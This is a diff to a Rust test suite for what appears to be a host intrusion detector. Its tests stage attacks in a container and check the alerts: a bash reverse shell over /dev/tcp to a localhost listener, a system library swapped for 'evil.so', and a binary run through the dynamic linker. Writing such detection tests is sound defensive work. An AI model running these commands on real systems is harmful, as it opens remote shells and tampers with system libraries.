@@ -18,9 +18,7 @@ const IMAGE: &str = "registry.test/code:1";
 
 pub(crate) fn trials() -> Vec<Trial> {
     // One node for all of them: each of them needs the image of its own.
-    vec![
-        trial_alone("code_that_is_not_executed_is_told_and_the_images_is_silent", "", everything),
-    ]
+    vec![trial_alone("code_that_is_not_executed_is_told_and_the_images_is_silent", "", everything)]
 }
 
 /// What is preloaded: its constructor ends the program at once, so that it lives no
@@ -64,7 +62,8 @@ fn compile(source: &str, options: &[&str]) -> anyhow::Result<Vec<u8>> {
     let directory = tempfile::tempdir_in(bench()?.scratch.path())?;
     let (from, to) = (directory.path().join("in.c"), directory.path().join("out"));
     fs::write(&from, source)?;
-    let output = Command::new("gcc").args(["-Os", "-o"]).arg(&to).arg(&from).args(options).output()?;
+    let output =
+        Command::new("gcc").args(["-Os", "-o"]).arg(&to).arg(&from).args(options).output()?;
     ensure!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
     Ok(fs::read(&to)?)
 }
@@ -175,7 +174,8 @@ fn a16_linker(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
     let mut program = compile("#include <unistd.h>\nint main(void){usleep(1000);return 0;}", &[])?;
     program.extend_from_slice(b"a16");
     container.lay("x", &program)?;
-    container.sh("cat /.control/x > /tmp/x; chmod 644 /tmp/x; /lib64/ld-linux-x86-64.so.2 /tmp/x")?;
+    container
+        .sh("cat /.control/x > /tmp/x; chmod 644 /tmp/x; /lib64/ld-linux-x86-64.so.2 /tmp/x")?;
     let findings = container.told(&["high library.loaded /tmp/x"])?;
     let loaded = only(&findings, "library.loaded")?;
     assert_eq!(loaded["detail"], "it was run as an argument of the dynamic linker", "{loaded:#}");
@@ -226,7 +226,9 @@ fn a18_preload_file(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
 
 fn a19_replaced(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
     container.lay("evil.so", &library(IDLE, "a19")?)?;
-    container.sh("cat /.control/evil.so > /usr/lib/.z.new; mv /usr/lib/.z.new /usr/lib/libidle.so.1.2")?;
+    container.sh(
+        "cat /.control/evil.so > /usr/lib/.z.new; mv /usr/lib/.z.new /usr/lib/libidle.so.1.2",
+    )?;
     std::thread::sleep(SETTLE);
     container.diff()?;
     container.told(&["medium file.modified /usr/lib/libidle.so.1.2"])?;
@@ -257,8 +259,8 @@ fn listen() -> anyhow::Result<(u16, std::thread::JoinHandle<()>)> {
 
 fn a32_reverse_shell(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
     let (port, waits) = listen()?;
-    let running = container
-        .begin(&format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' || true"))?;
+    let running =
+        container.begin(&format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' || true"))?;
     let findings = container.told(&["critical shell.reverse"]);
     waits.join().ok().context("the listener")?;
     running.finish(Duration::from_secs(30))?;
@@ -280,10 +282,13 @@ fn a33_piped_shell(_: &Node, container: &Container<'_>) -> anyhow::Result<()> {
     running.finish(Duration::from_secs(30))?;
     let findings = findings?;
     let shell = only(&findings, "shell.reverse")?;
-    let expected = format!(
-        "its input and output are pipes to /bin/busybox, which is connected to 127.0.0.1:{port}"
+    // Which of its names busybox has here depends on who called it.
+    let detail = shell["detail"].as_str().unwrap_or_default();
+    ensure!(
+        detail.starts_with("its input and output are pipes to /bin/")
+            && detail.ends_with(&format!(", which is connected to 127.0.0.1:{port}")),
+        "{shell:#}"
     );
-    assert_eq!(shell["detail"], expected.as_str(), "{shell:#}");
     Ok(())
 }
 
